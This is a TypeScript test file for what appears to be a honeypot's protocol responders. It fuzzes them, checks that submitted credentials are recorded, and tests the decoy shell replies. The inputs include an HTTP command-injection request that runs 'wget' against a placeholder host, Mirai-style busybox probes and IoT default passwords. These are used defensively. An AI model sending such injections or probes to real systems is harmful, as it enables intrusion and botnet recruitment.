// Every responder against hostile bytes: never a throw, never bytes consumed that were not there, output bounded.

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import type { SessionFindings } from '../model/session.ts';
import { Rehearsal } from './rehearsal.ts';
import { responders } from './responders/registry.ts';

const hex = (text: string): Buffer => Buffer.from(text.replaceAll(' ', ''), 'hex');

const on = (protocol: string, port = 4444): Rehearsal => {
  const responder = responders.get(protocol);
  assert.ok(responder, protocol);
  return new Rehearsal(responder, port, true);
};

/** Sequences that bring each protocol past its first steps; the fuzzer mutates them. */
const conversations: Readonly<Record<string, readonly Buffer[]>> = Object.fromEntries(
  Object.entries({
    adb: [
      '434e584e 00000001 00100000 00000000 00000000 bcb1a7b1',
      '4f50454e 01000000 00000000 09000000 00000000 b0afbab1 7368656c6c3a696400',
    ],
    ajp: ['123400010a', '1234000402020000'],
    amqp: ['414d515000000901', '01 0000 00000004 000a000b ce'],
    dcerpc: [`05000b03100000004800000001000000${'00'.repeat(56)}`, `05000003100000001800000001000000${'00'.repeat(8)}`],
    dns: ['001e0006010000010000000000000776657273696f6e0462696e640000100003'],
    fastcgi: ['0101000100080000 0001000000000000', '0105000100000000'],
    ftp: ['55534552206120620d0a', '504153532078790d0a4c4953540d0a'],
    http: [
      '474554202f20485454502f312e310d0a486f73743a20780d0a0d0a',
      '504f5354202f20485454502f312e310d0a5472616e736665722d456e636f64696e673a206368756e6b65640d0a0d0a340d0a616263640d0a300d0a0d0a',
    ],
    http2: ['505249202a20485454502f322e300d0a0d0a534d0d0a0d0a000000040000000000'],
    imap: ['61204c4f47494e2022782220227922 0d0a', '622041555448454e54494341544520504c41494e0d0a41486741650d0a'],
    jdwp: ['4a4457502d48616e647368616b65', '0000000b000000010001 01'],
    'json-rpc': ['7b226964223a312c226d6574686f64223a22676574776f726b227d0a'],
    ldap: ['300c020101600702010304008000', '3025020101632004000a01000a0100020100020100010100870b6f626a656374436c6173733000'],
    memcached: [
      '73746174730d0a',
      '7365742061203020302033 0d0a6162630d0a',
      `800b000000000000 00000000 00000001 ${'00'.repeat(8)}`,
    ],
    modbus: ['000100000006010300000001', '5a4700000005002b0e0100'],
    mongodb: [
      `3a000000 01000000 00000000 d4070000 00000000 61646d696e2e24636d6400 ${'00'.repeat(27)}`,
      `2a000000 02000000 00000000 dd070000 00000000 00 10000000 10 68656c6c6f 00 01000000 00 000000`,
    ],
    mqtt: ['10130004 4d515454 04c2003c 0001 61 0001 62 0001 63', '8206 0001 0001 23 00', 'c000'],
    mssql: ['1201002f00000100 00001a00060100200001020021000103002200040400260001ff 090000000000 00 00 00000000 00'],
    mysql: [`55000001 85a60f00 00000001 21 ${'00'.repeat(23)} 726f6f7400 ${'03'.repeat(48)}`],
    pop3: ['555345522061 0d0a', '504153532062 0d0a', '4155544820504c41494e0d0a'],
    postgres: ['0000000804d2162f', '0000001700030000757365720070 6f737467726573 0000', '700000000a 736563726500'],
    rdp: ['030000130ee000000000000100080003000000', `30 2e ${'00'.repeat(4)} 4e544c4d53535000 01000000 ${'00'.repeat(30)}`],
    redis: ['2a310d0a24340d0a494e464f0d0a', '434f4e46494720474554202a0d0a'],
    rmi: ['4a524d4900024b', '0001610000 0000', '52'],
    rtsp: ['4445534352494245207274737020525453502f312e300d0a435365713a20320d0a0d0a'],
    s7: [
      '0300001611e00000000100c0010ac1020100c2020102',
      '0300001902f08032010000000000080000f0000001000101e0',
      `0300002102f080320700000000000800080001120411440100ff09000400110001`,
    ],
    sip: ['4f5054494f4e53207369703a6e6d205349502f322e300d0a5669613a20780d0a546f3a20790d0a0d0a'],
    'smart-install': ['0000000100000001'],
    smb: [
      `00000054ff534d4272000000001853c8${'00'.repeat(16)}003100024c414e4d414e312e3000024c4d312e325830303200024e54204c414e4d414e20312e3000024e54204c4d20302e313200`,
      `00000040fe534d42${'00'.repeat(60)}`,
    ],
    smtp: [
      '45484c4f20780d0a',
      '4d41494c2046524f4d3a3c613e0d0a5243505420544f3a3c623e0d0a444154410d0a78 0d0a2e0d0a',
      '41555448204c4f47494e0d0a59513d3d0d0a59673d3d0d0a',
    ],
    socks4: ['04010050c000020100'],
    socks5: ['05020002', '01 01 61 01 62', '05010001c00002010050'],
    ssh: ['5353482d322e302d476f0d0a', '0000000c0a1e000000000000 00000000'],
    sunrpc: [`80000028 72fe1d13 00000000 00000002 000186a0 00000002 00000004 ${'00'.repeat(16)}`],
    t3: ['74332031322e322e310a41533a3235350a0a', '000000100165'],
    telnet: ['fffd03fffb18', '726f6f740d0a', '746f6f720d0a', '610d0a620d0a 630d0a640d0a', '636174202f70726f632f6d6f756e74730d0a'],
    vnc: ['524642203030332e3030380a', '02', '00112233445566778899aabbccddeeff'],
    zookeeper: ['72756f6b'],
  }).map(([protocol, steps]) => [protocol, steps.map(hex)]),
);

describe('hostile bytes', () => {
  test('every responder has a conversation to mutate', () => {
    assert.deepEqual([...responders.keys()].sort(), Object.keys(conversations).sort());
  });

  for (const [protocol, responder] of responders) {
    test(`${protocol}: random bytes`, () => {
      fc.assert(
        fc.property(fc.array(fc.uint8Array({ minLength: 1, maxLength: 200 }), { maxLength: 6 }), (pieces) => {
          const talk = new Rehearsal(responder, 80, true);
          let given = 0;
          for (const piece of pieces) {
            talk.say(Buffer.from(piece));
            given += piece.length;
          }
          assert.ok(talk.sentBytes <= 4096 + given * 1024, `${talk.sentBytes} bytes for ${given}`);
          assert.ok(talk.waiting <= given);
        }),
        { numRuns: 150 },
      );
    });

    test(`${protocol}: a conversation with bytes changed, cut and doubled`, () => {
      const steps = conversations[protocol];
      fc.assert(
        fc.property(
          fc.array(
            fc.tuple(fc.nat(steps.length - 1), fc.nat(400), fc.nat(255), fc.constantFrom('keep', 'set', 'cut', 'double', 'grow')),
            { maxLength: 8 },
          ),
          (changes) => {
            const talk = new Rehearsal(responder, 80, true);
            let given = 0;
            for (const [step, at, value, change] of changes) {
              let bytes = Buffer.from(steps[step]);
              if (change === 'set') bytes[at % bytes.length] = value;
              else if (change === 'cut') bytes = bytes.subarray(0, at % bytes.length);
              else if (change === 'double') bytes = Buffer.concat([bytes, bytes]);
              else if (change === 'grow')
                bytes = Buffer.concat([
                  bytes.subarray(0, at % bytes.length),
                  Buffer.alloc(value, value),
                  bytes.subarray(at % bytes.length),
                ]);
              if (bytes.length === 0) continue;
              talk.say(bytes);
              given += bytes.length;
            }
            assert.ok(talk.sentBytes <= 4096 + given * 1024);
          },
        ),
        { numRuns: 150 },
      );
    });

    test(`${protocol}: byte by byte is the same as at once`, () => {
      const whole = new Rehearsal(responder, 80, true);
      const pieces = new Rehearsal(responder, 80, true);
      for (const step of conversations[protocol]) {
        whole.say(step);
        for (const byte of step) pieces.say(Buffer.from([byte]));
      }
      assert.deepEqual(pieces.found, whole.found);
      assert.equal(pieces.ended, whole.ended);
      assert.equal(pieces.tls > 0, whole.tls > 0);
      assert.ok(whole.sentBytes > 0, 'it answers something');
    });
  }
});

describe('what is learned', () => {
  const cases: readonly (readonly [protocol: string, bytes: readonly (string | Buffer)[], found: SessionFindings])[] = [
    ['ftp', ['USER admin\r\n', 'PASS s3cret\r\n'], { userName: 'admin', password: 's3cret' }],
    ['telnet', ['root\r\n', 'xc3511\r\n'], { userName: 'root', password: 'xc3511' }],
    ['telnet', ['admin\r\0', 'admin\r\0'], { userName: 'admin', password: 'admin' }],
    ['smtp', ['EHLO x\r\nAUTH LOGIN\r\n', 'dXNlcg==\r\n', 'cGFzcw==\r\n'], { userName: 'user', password: 'pass' }],
    ['smtp', ['AUTH PLAIN AHVzZXIAcGFzcw==\r\n'], { userName: 'user', password: 'pass' }],
    ['pop3', ['USER u\r\nPASS p w\r\n'], { userName: 'u', password: 'p w' }],
    ['imap', ['a LOGIN "us\\"er" pass\r\n'], { userName: 'us"er', password: 'pass' }],
    ['imap', ['a LOGIN {4}\r\n', 'user {4}\r\n', 'pass\r\n'], { userName: 'user', password: 'pass' }],
    ['redis', ['AUTH foobared\r\n'], { password: 'foobared' }],
    ['redis', ['*3\r\n$4\r\nAUTH\r\n$1\r\nu\r\n$1\r\np\r\n'], { userName: 'u', password: 'p' }],
    [
      'http',
      ['GET /manager/html HTTP/1.1\r\nAuthorization: Basic dG9tY2F0OnRvbWNhdA==\r\n\r\n'],
      { userName: 'tomcat', password: 'tomcat' },
    ],
    [
      'postgres',
      [hex('0000001700030000757365720070 6f737467726573 0000'), hex('700000000b 736563726574'), hex('00')],
      { userName: 'postgres', password: 'secret' },
    ],
    ['mqtt', [hex('10130004 4d515454 04c2003c 0001 61 0001 62 0001 63')], { userName: 'b', password: 'c' }],
    ['socks5', [hex('05020002'), hex('01 02 6161 01 62')], { userName: 'aa', password: 'b' }],
    [
      'ldap',
      [hex('301a020101 6015 020103 0407 636e3d726f6f74 8007 68756e74657232')],
      { userName: 'cn=root', password: 'hunter2' },
    ],
    [
      'rdp',
      [Buffer.concat([hex('0300002a25e00000000000'), Buffer.from('Cookie: mstshash=hello\r\n'), hex('0100080003000000')])],
      { userName: 'hello' },
    ],
    ['mysql', [hex(`55000001 85a60f00 00000001 21 ${'00'.repeat(23)} 726f6f7400 ${'03'.repeat(48)}`)], { userName: 'root' }],
    [
      'json-rpc',
      ['{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"wallet","pass":"x"}}\n'],
      { userName: 'wallet', password: 'x' },
    ],
  ];
  for (const [protocol, pieces, found] of cases)
    test(`${protocol}: ${JSON.stringify(found)}`, () => {
      const talk = on(protocol);
      for (const piece of pieces) talk.say(piece);
      assert.deepEqual(talk.found, found);
    });
});

describe('what is answered', () => {
  test('HTTP: keep-alive, pipelining, chunked bodies, HEAD', () => {
    const talk = on('http');
    const twice = talk.say('GET / HTTP/1.1\r\nHost: a\r\n\r\nGET /x HTTP/1.1\r\nHost: a\r\n\r\n');
    assert.equal(twice.match(/^HTTP\/1\.1 /gm)?.length, 2);
    assert.match(talk.say('POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n'), /^HTTP\/1\.1 200/);
    const head = talk.say('HEAD / HTTP/1.1\r\n\r\n');
    assert.match(head, /Content-Length: [1-9]/);
    assert.ok(head.endsWith('\r\n\r\n'));
    assert.equal(talk.ended, false);
    talk.say('GET / HTTP/1.1\r\nConnection: close\r\n\r\n');
    assert.equal(talk.ended, true);
  });

  test('HTTP: an exploit with blanks in its target is a request', () => {
    assert.match(on('http').say('GET /shell?cd /tmp; wget http://192.0.2.1/x HTTP/1.1\r\n\r\n'), /^HTTP\/1\.1 404/);
    assert.match(on('http').say('GET  HTTP/1.1\r\n\r\n'), /^HTTP\/1\.1 400/);
    assert.match(on('http').say('\x01\x02 / HTTP/1.1\r\n\r\n'), /^HTTP\/1\.1 400/);
  });

  test('HTTP: Docker’s API on its port', () => {
    const talk = on('http', 2375);
    assert.match(talk.say('GET /version HTTP/1.1\r\n\r\n'), /"ApiVersion":"1\.41"/);
    assert.match(
      talk.say('POST /v1.24/containers/create HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}'),
      /^HTTP\/1\.1 201 Created[\s\S]*"Id":"[0-9a-f]{64}"/,
    );
  });

  test('HTTP: a proxy request connects nowhere and is listened to', () => {
    const talk = on('http');
    assert.match(talk.say('CONNECT mail.example.org:25 HTTP/1.1\r\n\r\n'), /^HTTP\/1\.1 200/);
    assert.equal(talk.redetected, 25);
  });

  test('SOCKS: the same', () => {
    const five = on('socks5');
    assert.equal(five.say(hex('050100')), '\x05\x00');
    assert.equal(five.say(hex('05010001c00002010050')).slice(0, 2), '\x05\x00');
    assert.equal(five.redetected, 80);
    const four = on('socks4');
    assert.equal(four.say(hex('04010019c000020100')).charCodeAt(1), 0x5a);
    assert.equal(four.redetected, 25);
  });

  test('Telnet: two refusals, then a shell that knows bots’ questions', () => {
    const talk = on('telnet');
    assert.match(talk.sent.toString('latin1'), /login: $/);
    assert.match(talk.say('root\r\n1\r\n'), /Login incorrect/);
    talk.say('root\r\n2\r\n');
    assert.match(talk.say('root\r\n3\r\n'), /root@srv-4711:~# $/);
    assert.match(talk.say('/bin/busybox MIRAI\r\n'), /MIRAI: applet not found/);
    assert.match(talk.say('cat /proc/mounts; /bin/busybox ECCHI\r\n'), /squashfs[\s\S]*ECCHI: applet not found/);
  });

  test('SSH: version and algorithms', () => {
    const talk = on('ssh');
    const answer = Buffer.from(talk.say('SSH-2.0-libssh2_1.9\r\n'), 'latin1');
    assert.equal(answer[5], 20, 'KEXINIT');
    assert.equal(answer.length, 4 + answer.readUInt32BE(0));
    assert.equal(answer.length % 8, 0);
  });

  test('PostgreSQL, LDAP, SMTP, IMAP, POP3, FTP, MySQL and RDP offer TLS', () => {
    for (const [protocol, bytes] of [
      ['postgres', hex('0000000804d2162f')],
      ['ldap', hex('301d02010177188016312e332e362e312e342e312e313436362e3230303337')],
      ['smtp', 'STARTTLS\r\n'],
      ['imap', 'a STARTTLS\r\n'],
      ['pop3', 'STLS\r\n'],
      ['ftp', 'AUTH TLS\r\n'],
      ['mysql', hex(`20000001 85ae0f00 00000001 21 ${'00'.repeat(23)}`)],
      ['rdp', hex('030000130ee000000000000100080001000000')],
    ] as const) {
      const talk = on(protocol);
      talk.say(bytes as string);
      assert.equal(talk.tls, 1, protocol);
    }
  });
});
